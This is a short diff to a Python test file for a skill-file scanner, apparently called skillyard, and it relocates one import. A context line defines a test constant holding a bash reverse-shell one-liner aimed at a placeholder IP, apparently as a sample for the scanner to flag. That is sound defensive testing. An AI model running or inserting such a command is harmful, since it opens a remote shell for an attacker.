@@ -7,7 +7,6 @@ from pathlib import Path
 
 import pytest
 
-from skillyard import DEFAULT_LIMITS
 from skillyard.base.shapes.details import ScanFinding
 from skillyard.check.scanning import (
     SkillFile,
@@ -16,6 +15,7 @@ from skillyard.check.scanning import (
     scan_files,
 )
 from skillyard.check.scanning.files import _MAX_LARGE_BYTES
+from skillyard.files import DEFAULT_LIMITS
 
 ATTACK = b"bash -i >& /dev/tcp/192.0.2.1/1 0>&1"
 SKILL = b"---\nname: pencil\ndescription: Draws.\n---\nDraw.\n"
